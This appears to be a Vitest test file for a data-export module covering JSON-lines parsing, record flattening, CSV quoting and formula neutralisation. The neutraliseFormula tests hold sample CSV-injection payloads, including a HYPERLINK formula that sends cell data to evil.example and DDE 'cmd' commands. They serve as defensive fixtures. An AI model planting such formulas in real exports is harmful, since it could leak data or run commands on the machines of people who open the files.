import { describe, expect, it } from 'vitest';
import { csvLines, csvRow, ExportPartError, flattenRecord, jsonLines, neutraliseFormula } from '../../shared/fulfilment/export-records.js';

async function collect<T>(values: AsyncIterable<T>): Promise<T[]> {
  const out: T[] = [];
  for await (const value of values) out.push(value);
  return out;
}

async function* chunks(...parts: (string | Uint8Array)[]): AsyncGenerator<string | Uint8Array> {
  yield* parts;
}

describe('jsonLines', () => {
  it('yields one value per line, across chunk borders and split multi-byte characters', async () => {
    // Prepare
    const bytes = Buffer.from('{"name":"Jürgen"}\r\n\n{"n":2}\n[1,2]', 'utf8');
    const split = bytes.indexOf(0xc3) + 1; // inside the two bytes of "ü"

    // Act
    const values = await collect(jsonLines(chunks(bytes.subarray(0, split), bytes.subarray(split)), 'part.jsonl'));

    // Assess
    expect(values).toEqual([
      { text: '{"name":"Jürgen"}', value: { name: 'Jürgen' } },
      { text: '{"n":2}', value: { n: 2 } },
      { text: '[1,2]', value: [1, 2] },
    ]);
  });

  it('names the line that is not JSON without quoting it', async () => {
    // Act
    const reading = collect(jsonLines(chunks('{"ok":1}\n\n{"email":"anna@example.com"\n'), 'exports/r/parts/crm.jsonl'));

    // Assess
    await expect(reading).rejects.toThrow(ExportPartError);
    await expect(reading).rejects.toThrow('Line 3 of exports/r/parts/crm.jsonl is not JSON');
    await expect(reading).rejects.not.toThrow(/anna/);
  });
});

describe('flattenRecord', () => {
  it.each([
    {
      note: 'flat fields as they are',
      record: { id: 1, ok: true, note: null },
      cells: [
        ['id', 1],
        ['ok', true],
        ['note', null],
      ],
    },
    {
      note: 'nested objects as dotted columns',
      record: { address: { city: 'Berlin', geo: { lat: 52.5 } } },
      cells: [
        ['address.city', 'Berlin'],
        ['address.geo.lat', 52.5],
      ],
    },
    {
      note: 'lists as one cell of JSON text',
      record: { tags: ['a', 'b'], items: [{ sku: 1 }] },
      cells: [
        ['tags', '["a","b"]'],
        ['items', '[{"sku":1}]'],
      ],
    },
    { note: 'an empty nested object as {}', record: { prefs: {} }, cells: [['prefs', '{}']] },
    { note: 'a record that is not an object as one value column', record: 'plain', cells: [['value', 'plain']] },
  ])('turns $note', ({ record, cells }) => {
    expect([...flattenRecord(record)]).toEqual(cells);
  });
});

describe('csvLines', () => {
  it('quotes as RFC 4180 asks, ends lines with CRLF and spells out booleans', () => {
    // Act
    const text = csvLines([
      ['id', 'note', 'active', 'missing'],
      ...[csvRow({ id: 7, note: 'says "hi", twice\nthen leaves', active: false }, ['id', 'note', 'active', 'missing'])],
    ]);

    // Assess
    expect(text).toBe('id,note,active,missing\r\n7,"says ""hi"", twice\nthen leaves",false,\r\n');
  });
});

describe('neutraliseFormula', () => {
  it.each([
    { note: 'a hyperlink formula', text: '=HYPERLINK("https://evil.example/?x="&A1,"Click")', cell: '\'=HYPERLINK("https://evil.example/?x="&A1,"Click")' },
    { note: 'a DDE command', text: "=cmd|' /C calc'!A0", cell: "'=cmd|' /C calc'!A0" },
    { note: 'a sum that starts with a plus', text: '+1+2', cell: "'+1+2" },
    { note: 'a formula that starts with a minus', text: "-2+3+cmd|' /C calc'!A0", cell: "'-2+3+cmd|' /C calc'!A0" },
    { note: 'an at-sign function', text: "@SUM(1+1)*cmd|' /C calc'!A0", cell: "'@SUM(1+1)*cmd|' /C calc'!A0" },
    { note: 'a leading tab', text: '\t=1+1', cell: "'\t=1+1" },
    { note: 'a leading carriage return', text: '\r=1+1', cell: "'\r=1+1" },
    { note: 'a lone sign', text: '-', cell: "'-" },
    { note: 'an email address with an at-sign inside', text: 'anna@example.com', cell: 'anna@example.com' },
    { note: 'a formula character later in the text', text: 'a=b+c', cell: 'a=b+c' },
    { note: 'a negative number', text: '-12.5', cell: '-12.5' },
    { note: 'a phone number with a plus', text: '+4930123456', cell: '+4930123456' },
    { note: 'a number with an exponent', text: '-1e5', cell: '-1e5' },
    { note: 'empty text', text: '', cell: '' },
  ])('writes $note as it should be read', ({ text, cell }) => {
    expect(neutraliseFormula(text)).toBe(cell);
  });
});

describe('csvLines and formulas', () => {
  it('neutralises formula cells in headers and values, and leaves JSON numbers as numbers', () => {
    // Prepare
    const columns = ['=1+1', 'note', 'balance'];

    // Act
    const text = csvLines([columns, csvRow({ '=1+1': '@SUM(A1:A2)', note: "=cmd|' /C calc'!A0", balance: -5 }, columns)]);

    // Assess
    expect(text).toBe("'=1+1,note,balance\r\n'@SUM(A1:A2),'=cmd|' /C calc'!A0,-5\r\n");
  });
});
